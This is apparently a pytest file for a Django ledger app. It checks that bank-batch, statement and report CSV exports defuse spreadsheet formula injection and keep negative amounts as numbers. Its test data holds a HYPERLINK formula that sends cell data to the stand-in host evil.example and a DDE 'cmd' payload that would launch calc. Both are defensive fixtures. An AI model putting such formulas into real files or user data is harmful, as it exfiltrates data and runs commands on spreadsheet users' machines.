"""The ledger's CSV files (bank batch, statement, report) neutralise cells that a
spreadsheet would run as formulas, and keep negative amounts as numbers
(docs/money.md, docs/spreadsheets.md "Formulas in cells")."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.utils import timezone

from purei.clusters.models import Cluster
from purei.ledger.bankfile import bank_batch_csv, dollars
from purei.ledger.reports import Period, Report, ReportRow, report_csv
from purei.ledger.services.journal import adjustment_post
from purei.ledger.services.payouts import payout_run
from purei.ledger.statement import statement_csv, statement_for_payout
from purei.members.models import Member

from .factories import (
    books_balance,  # noqa: F401  # autouse: every journal balances
    cluster_admin,
    dispatch,
    money_cluster,
    money_member,
    paid_order,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click for your refund")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _later() -> dt.datetime:
    return timezone.now() + dt.timedelta(minutes=1)


def test_bank_file_neutralises_a_formula_in_the_account_name() -> None:
    # given a member whose bank account name was saved before names were checked
    cluster = money_cluster(rate="0", gst_registered=False)
    member = money_member(cluster, gst_registered=False)
    Member.objects.filter(pk=member.pk).update(bank_account_name=HYPERLINK)
    order, _p = paid_order(cluster, [(member, [(1000, 1)])])
    dispatch(order)
    run = payout_run(actor=cluster_admin(cluster), cluster=cluster, until=_later())
    # when
    text = bank_batch_csv(run)
    # then the name reaches the cluster admin's spreadsheet as text, not a formula
    (row,) = _rows(text)[1:]
    assert row[1] == "'" + HYPERLINK
    assert row[2] == dollars(run.payouts.get().amount_cents)
    assert all(line.startswith('"') for line in text.splitlines())


def test_statement_neutralises_a_formula_in_a_description() -> None:
    # given an adjustment whose reason a spreadsheet would run
    cluster = money_cluster(rate="0", gst_registered=False)
    member = money_member(cluster, gst_registered=False)
    order, _p = paid_order(cluster, [(member, [(2000, 1)])])
    dispatch(order)
    admin = cluster_admin(cluster)
    adjustment_post(
        actor=admin,
        cluster=cluster,
        member=member,
        amount_cents=-500,
        reason="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    payout = payout_run(actor=admin, cluster=cluster, until=_later()).payouts.get()
    # when
    rows = _rows(statement_csv(statement_for_payout(payout)))
    # then the reason is text and the negative amount is still a number
    (adjustment,) = [row for row in rows if "cmd|" in row[3]]
    assert adjustment[3] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert adjustment[4] == "-5.00"


def test_report_quotes_every_field_and_keeps_negative_figures_numbers() -> None:
    # given a period whose refunds and payouts are negative
    day = dt.date(2026, 3, 2)
    report = Report(
        cluster=Cluster(slug="x"),
        period="week",
        start=day,
        end=day,
        rows=[
            ReportRow(
                period=Period(start=day, end=day, key=day),
                sales_cents=2000,
                refunds_cents=-1234,
                payouts_cents=-500,
                due_cents=266,
            )
        ],
    )
    # when
    text = report_csv(report)
    # then
    lines = text.splitlines()
    # commission, its GST, promotions paid and fees: none
    dates, figures = '"2026-03-02","2026-03-02"', '"0.00","0.00","0.00","0.00"'
    assert lines[1] == f'{dates},"20.00",{figures},"-12.34","-5.00","2.66"'
    assert all(line.startswith('"') for line in lines)
